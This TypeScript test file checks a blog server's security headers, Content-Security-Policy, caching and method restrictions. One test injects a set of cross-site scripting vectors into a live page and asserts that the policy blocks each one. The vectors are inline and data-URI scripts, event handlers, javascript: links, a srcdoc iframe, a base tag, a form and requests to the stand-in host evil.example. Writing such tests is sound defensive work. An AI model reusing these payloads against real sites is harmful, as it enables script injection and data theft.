import { createHash } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { hydrated, openSession } from './browser.ts'
import { startFakeBackend, type FakeBackend } from './fake-backend.ts'
import { publish, startSite, type Site } from './site.ts'

// The second wall: what the server's answers allow a page to do, whatever stands in it (decision 11).

let api: FakeBackend
let client: Site
let own: Site

beforeAll(async () => {
  api = await startFakeBackend()
  client = await startSite({ API_HOST: api.url, BUCKET_URL: 'https://cdn.example.org/blog' })
  own = await startSite()
  await publish(own, { id: 'one' })
})

afterAll(async () => {
  await Promise.all([client.close(), own.close()])
  await api.close()
})

const OWN_PAGES = [
  '/',
  '/about',
  '/category/technology',
  '/category/none',
  '/post/technology/one',
  '/post/a/b',
  '/none',
]
const CLIENT_PAGES = ['/', '/category/blockchain', '/post/blockchain/blockchain-1', '/post/blockchain/none']

test('pages of our own backend have exactly this policy', async () => {
  for (const path of OWN_PAGES) {
    const { policy, styles } = await policyOf(own.url + path)
    expect([path, policy]).toEqual([
      path,
      `default-src 'none'; script-src 'self'; style-src 'self' ${styles}; img-src 'self'; font-src 'self'; connect-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'`,
    ])
  }
})

test('the page with the one form may send it to this server, and is alike in all else', async () => {
  const [home, search] = [await policyOf(own.url), await policyOf(`${own.url}/search?q=x`)]
  expect(search.policy).toBe(
    home.policy.replace("form-action 'none'", "form-action 'self'").replace(home.styles, search.styles),
  )
})

test('pages of a foreign backend may call it, show its pictures, and do nothing more', async () => {
  for (const path of CLIENT_PAGES) {
    const { policy, styles } = await policyOf(client.url + path)
    expect([path, policy]).toEqual([
      path,
      `default-src 'none'; script-src 'self'; style-src 'self' ${styles}; img-src 'self' https://cdn.example.org https:; font-src 'self'; connect-src 'self' ${api.url}; manifest-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'`,
    ])
  }
})

// A page's policy, and the hashes of the styles that it carries.
async function policyOf(url: string): Promise<{ policy: string; styles: string }> {
  const answer = await fetch(url)
  const texts = [...(await answer.text()).matchAll(/<style[^>]*>(.*?)<\/style>/gs)].map(([, text = '']) => text)
  const styles = texts.map((text) => `'${hashOf(text)}'`).join(' ')
  return { policy: answer.headers.get('content-security-policy') ?? '', styles }
}

function hashOf(text: string): string {
  return `sha256-${createHash('sha256').update(text).digest('base64')}`
}

test('every answer has the safe headers, whatever it answers', async () => {
  const assets = /(?:src|href)="(\/assets\/[^"]+)"/.exec(await (await fetch(own.url)).text())
  const paths = [
    ...OWN_PAGES,
    '/list-categories',
    '/list-posts-by-category',
    '/bucket/stet/x',
    '/robots.txt',
    '/healthz',
  ]
  for (const path of [...paths, assets?.[1] ?? 'no asset', '/favicon.svg', '/rss.xml', '/%E0%A4%A']) {
    const { headers } = await fetch(own.url + path)
    const names = ['x-content-type-options', 'referrer-policy', 'x-frame-options']
    expect([path, ...names.map((name) => headers.get(name))]).toEqual([
      path,
      'nosniff',
      'strict-origin-when-cross-origin',
      'DENY',
    ])
    // In an empty tab it makes Chromium start another process, and nobody is signed in here whom it could protect.
    expect(headers.get('cross-origin-opener-policy')).toBeNull()
    expect(headers.get('x-powered-by')).toBeNull()
  }
})

test('whoever has an answer already is told so: pages, calls, feeds, built files, pictures', async () => {
  const asset = /(?:src|href)="(\/assets\/[^"]+)"/.exec(await (await fetch(own.url)).text())?.[1] ?? 'no asset'
  for (const path of ['/', '/list-categories', '/rss.xml', '/sitemap.xml', asset, '/favicon.svg']) {
    const first = await fetch(own.url + path)
    const etag = first.headers.get('etag') ?? ''
    expect([path, first.status, etag]).toEqual([path, 200, expect.stringMatching(/^(?:W\/)?"[^"]+"$/)])
    await first.arrayBuffer()
    const again = await fetch(own.url + path, { headers: { 'if-none-match': etag } })
    expect([path, again.status, await again.text()]).toEqual([path, 304, ''])
  }
})

test('no page has an inline script, an inline style but the three of its own, or a handler: data travels as JSON', async () => {
  const pages = [...OWN_PAGES.map((path) => own.url + path), ...CLIENT_PAGES.map((path) => client.url + path)]
  for (const page of pages) {
    const html = await (await fetch(page)).text()
    const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map(([, attributes = '']) => attributes)
    expect(scripts.length).toBeGreaterThan(1)
    for (const attributes of scripts)
      expect(attributes).toMatch(/^ type="module" src="\/assets\/[\w-]+\.js"| type="application\/(?:ld\+)?json"/)
    const styles = [...html.matchAll(/<style\b/gi)].map(({ index }) => index)
    expect(styles).toHaveLength(3)
    expect(styles.at(-1)).toBeLessThan(html.indexOf('<body>'))
    // Fonts, for readers without scripts.
    expect(html).toMatch(/<noscript><link [^>]*><style>(?:@font-face\{[^}]*\})+<\/style><\/noscript>.*<body>/s)
    expect(html).not.toMatch(/<[^>]+\s(?:style|on[a-z]+)=|javascript:/i)
  }
})

test('what slipped into a page would still be stopped: script, handler, style, form, frame, base, foreign requests', async () => {
  const { page, close } = await openSession()
  const strangers: string[] = []
  await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'window.pwned=1' }))
  page.on('response', (response) => {
    if (response.url().startsWith('https://evil.example')) strangers.push(response.url())
  })
  await page.goto(`${own.url}/post/technology/one`)
  await hydrated(page)
  const outcome = await page.evaluate(async () => {
    const prose = document.querySelector('.prose')
    if (!prose) return null
    prose.innerHTML = `
      <img src="/none.png" onerror="window.pwned=1"><img src="https://evil.example/a.png">
      <p id="styled" style="position:fixed">text</p><style>#styled { position: absolute }</style>
      <link rel="stylesheet" href="https://evil.example/a.css"><iframe src="https://evil.example/"></iframe>
      <iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/b"></object>
      <base href="https://evil.example/"><form action="https://evil.example/c"><button>Send</button></form>
      <a id="click" href="javascript:window.pwned=1">text</a>`
    for (const [name, value] of [
      ['text', 'window.pwned=1'],
      ['src', 'https://evil.example/a.js'],
      ['src', 'data:text/javascript,window.pwned=1'],
    ] as const)
      prose.append(Object.assign(document.createElement('script'), { [name]: value }))
    prose.querySelector<HTMLElement>('#click')?.click()
    prose.querySelector('button')?.click()
    const called = await fetch('https://evil.example/d').then(
      () => 'answered',
      () => 'stopped',
    )
    await new Promise((resolve) => setTimeout(resolve, 200))
    return {
      called,
      ran: 'pwned' in window,
      base: document.baseURI === location.href,
      position: getComputedStyle(document.querySelector('#styled') ?? prose).position,
    }
  })
  expect(outcome).toEqual({ called: 'stopped', ran: false, base: true, position: 'static' })
  expect(strangers).toEqual([])
  expect(new URL(page.url()).pathname).toBe('/post/technology/one')
  await close()
})

describe.each(['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND'])('%s', (method) => {
  test('is refused with 405 everywhere', async () => {
    for (const path of [
      '/',
      '/post/technology/one',
      '/list-categories',
      '/bucket/stet/posts/technology/one/content.json',
    ]) {
      for (const site of [own, client]) {
        const response = await fetch(site.url + path, { method })
        expect([path, response.status, response.headers.get('allow')]).toEqual([path, 405, 'GET, HEAD'])
        expect(await response.json()).toEqual({ error: 'This server only answers GET and HEAD.' })
      }
    }
  })
})

test('HEAD is answered as GET is, without the body', async () => {
  const calls = ['/list-categories', '/list-posts-by-category?category=technology', '/robots.txt', '/favicon.svg']
  for (const path of [...OWN_PAGES, ...calls]) {
    const [get, head] = await Promise.all([fetch(own.url + path), fetch(own.url + path, { method: 'HEAD' })])
    expect([path, head.status, head.headers.get('content-type'), head.headers.get('etag')]).toEqual([
      path,
      get.status,
      get.headers.get('content-type'),
      get.headers.get('etag'),
    ])
    expect(await head.text()).toBe('')
  }
})
